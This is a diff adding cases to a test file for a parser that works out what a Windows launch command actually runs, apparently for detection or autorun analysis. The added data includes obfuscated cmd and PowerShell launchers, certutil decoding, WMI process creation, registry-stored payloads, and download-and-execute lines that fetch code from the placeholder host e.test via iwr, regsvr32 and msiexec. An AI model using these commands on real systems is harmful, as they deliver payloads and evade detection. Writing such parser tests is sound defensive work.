@@ -31,6 +31,16 @@ powershell -c "& {C:\x\y.ps1}" | script | c:\x\y.ps1 | powershell
 powershell -command "iex (gc C:\x\a.txt -raw)" | inline_code | c:\x\a.txt | powershell
 powershell -c "[Reflection.Assembly]::LoadFile('C:\x\a.dll')" | inline_code | c:\x\a.dll | powershell
 powershell -c "(New-Object -ComObject WScript.Shell).Run('C:\x\a.exe')" | inline_code | c:\x\a.exe | powershell
+powershell -c "iwr http://e.test/a -o $env:temp\a.exe;& $env:temp\a.exe" | inline_code | ?:\users\*\appdata\local\temp\a.exe | powershell
+powershell -c "while(1){C:\x\a.exe; sleep 5}" | inline_code | c:\x\a.exe | powershell
+powershell -c "Start-Job {C:\x\a.exe}" | inline_code | c:\x\a.exe | powershell
+powershell -c "& $env:APPDATA\a.exe" | executable | ?:\users\*\appdata\roaming\a.exe | powershell
+powershell -c "Add-Type -Path C:\x\a.dll" | inline_code | c:\x\a.dll | powershell
+powershell -c "iwmi win32_process create 'C:\x\a.exe'" | inline_code | c:\x\a.exe | powershell
+powershell -c "Invoke-CimMethod Win32_Process Create @{CommandLine='C:\x\a.exe'}" | inline_code | c:\x\a.exe | powershell
+powershell -ea QQBBAEEA -c C:\x\a.exe | executable | c:\x\a.exe | powershell
+cmd /c certutil -decode C:\x\a.txt C:\x\a.exe & C:\x\a.exe | executable | c:\x\a.exe | cmd>certutil
+certutil -f -decode C:\x\a.txt C:\x\a.exe | document | c:\x\a.exe | certutil
 powershell -c "Get-Date; 1" | inline_code | - | powershell
 powershell -c "$x='C:\x\a.exe'; start $x" | inline_code | - | powershell
 mshta vbscript:CreateObject("WScript.Shell").Run("C:\x\a.exe",0)(window.close) | inline_code | c:\x\a.exe | mshta
@@ -67,6 +77,54 @@ wt -d . cmd /c C:\x\a.exe | executable | c:\x\a.exe | wt>cmd
 nircmd exec hide C:\x\a.bat | script | c:\x\a.bat | nircmd
 SyncAppvPublishingServer.vbs "n; calc" | inline_code | - | syncappvpublishingserver
 regedit /s C:\x\a.reg | document | c:\x\a.reg | regedit
+C:\Users\kim\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\a.lnk | document | c:\users\kim\appdata\roaming\microsoft\windows\start menu\programs\startup\a.lnk | -
+C:\Program Files\Java Runtime\bin\a.exe -q | executable | c:\program files\java runtime\bin\a.exe | -
+C:\Program Files\Foo - Bar\a.exe /q | executable | c:\program files\foo - bar\a.exe | -
+C:\Windows\System32\wscript sub\a.vbs | script | sub\a.vbs | wscript
+C:\x\a.exe::$DATA | executable | c:\x\a.exe | -
+C:\x\a.txt:b.exe:$DATA | executable | c:\x\a.txt:b.exe | -
+\\?\Volume{01234567-89ab-cdef-0123-456789abcdef}\x\a.exe | executable | ?:\x\a.exe | -
+\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\x\a.exe | executable | ?:\x\a.exe | -
+%COMSPEC:~0,1%md /c C:\x\a.exe | executable | c:\x\a.exe | cmd
+cmd /c %ProgramData:~0,1%%ProgramData:~9,2% | bare_name | cmd | cmd
+cmd /c %windir:windows=x%\a.exe | executable | c:\x\a.exe | cmd
+cmd /v /c set x=C:\x\a.exe&!x! | executable | c:\x\a.exe | cmd
+cmd /v:on /c "set x=pow&set y=ershell&!x!!y! -c calc" | inline_code | - | cmd>powershell
+cmd /c "set "p=C:\a b"&& call "%p%\c.exe"" | executable | c:\a b\c.exe | cmd>call
+cmd /c set x=xxC:\x\a.exeyy&!x:~2,-2! | executable | c:\x\a.exe | cmd
+cmd /s/c C:\x\a.exe | executable | c:\x\a.exe | cmd
+cmd /Q/D/c C:\x\a.exe | executable | c:\x\a.exe | cmd
+cmd.exe/c"C:\x\a.exe" | executable | c:\x\a.exe | cmd
+cmd /c;;,C:\x\a.exe | executable | c:\x\a.exe | cmd
+cmd /c ((C:\x\a.exe)) | executable | c:\x\a.exe | cmd
+cmd /c (C:\x\a.exe)&exit | executable | c:\x\a.exe | cmd
+cmd /c C:\x (86)\a.exe&exit | executable | c:\x (86)\a.exe | cmd
+cmd /c C:\x\a.bat<nul >nul 2>nul | script | c:\x\a.bat | cmd
+cmd /c >nul C:\x\a.exe | executable | c:\x\a.exe | cmd
+cmd /c "p""owershell" -c calc | inline_code | - | cmd>powershell
+cmd /c C:\x\"a".exe | executable | c:\x\a.exe | cmd
+cmd /c cd C:\x && a.exe | executable | c:\x\a.exe | cmd
+cmd /c cd C:\x && calc | bare_name | calc | cmd
+cmd /c start /d "C:\a b" /min c.exe | executable | c:\a b\c.exe | cmd>start
+cmd /c if exist C:\x\a.exe (C:\x\a.exe) | executable | c:\x\a.exe | cmd
+cmd /c if not exist C:\x (md C:\x) else C:\x\a.exe | executable | c:\x\a.exe | cmd
+cmd /c if /i "%USERNAME%"=="bob" C:\x\a.exe | executable | c:\x\a.exe | cmd
+cmd /c for %i in (C:\x\a.exe) do start %i | executable | c:\x\a.exe | cmd>start
+cmd /c for /f %i in (C:\x\list.txt) do start %i | inline_code | - | cmd
+cmd /c for /f "tokens=2*" %a in ('reg query HKCU\Software\X /v Y') do %b | registry_payload | - | cmd
+forfiles /m calc.exe /c "0x63md /c C:\x\a.exe" | executable | c:\x\a.exe | forfiles>cmd
+bitsadmin /SetNotifyCmdLine j C:\x\a.exe "a.exe -q" | executable | c:\x\a.exe | bitsadmin
+control /name Microsoft.System | bare_name | control | -
+wmic os get /format:C:\x\a.xsl | script | c:\x\a.xsl | wmic
+wt -w 0 nt -d C:\ powershell -c calc | inline_code | - | wt>powershell
+java -cp C:\x\a.jar Main -q | script | c:\x\a.jar | java
+rundll32 /d C:\x\a.dll,Go | library | c:\x\a.dll | rundll32
+regsvr32 /s/n/u/i:http://e.test/a.sct scrobj.dll | url | - | regsvr32
+regsvr32 /s /i:C:\x\a.png scrobj.dll | script | c:\x\a.png | regsvr32
+msiexec /qn/ihttp://e.test/a.png | url | - | msiexec
+msiexec /Q/I "http://e.test/a" | url | - | msiexec
+msiexec /fv C:\x\a.msi | document | c:\x\a.msi | msiexec
+msiexec /i {11111111-1111-1111-1111-111111111111} | bare_name | msiexec | -
 `
   .trim()
   .split('\n')
@@ -93,11 +151,27 @@ test('code in an encoded command is read for what it starts', () => {
   expect(readValueTarget(data)).toMatchObject({ kind: 'executable', path: 'c:\\users\\public\\a.exe' });
 });
 
+test('a key with a blank in its name is read whole, and variables in arguments stay as the log has them', () => {
+  expect(readValueTarget("powershell -c iex (gp 'HKCU:\\Software\\A B').Y").registryPath).toBe(
+    'HKCU\\Software\\A B\\Y',
+  );
+  expect(readValueTarget('%ProgramFiles%\\A B\\c.exe %TEMP%\\x').arguments).toBe('%TEMP%\\x');
+  expect(readValueTarget('powershell -c "& ${'.concat('env:TEMP}\\a.exe"')).path).toBe(
+    '?:\\users\\*\\appdata\\local\\temp\\a.exe',
+  );
+  expect(readValueTarget('powershell -c "iex $env:TEMP"').code).toBe('"iex $env:TEMP"');
+});
+
 test.each([
   '(Get-Item HKCU:\\Software\\X).GetValue("Y")',
   "[Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\\X').GetValue('Y')",
   'reg query HKCU\\Software\\X /v Y',
   '(gp HKCU:\\Software\\X).Y',
+  'Get-ItemPropertyValue -Name Y -Path HKCU:\\Software\\X',
+  "Get-ItemProperty -LiteralPath:'HKCU:\\Software\\X' -N Y",
+  'gi HKCU:\\Software\\X | gp -name Y | select -exp Y',
+  'gp HKCU:\\Software\\X | select -ExpandProperty Y',
+  'cd HKCU:\\Software\\X; (gp . Y).Y',
 ])('a launcher that reads its code with %s names the value', (reading) => {
   expect(readValueTarget(`powershell -c iex (${reading})`)).toMatchObject({
     kind: 'registry_payload',
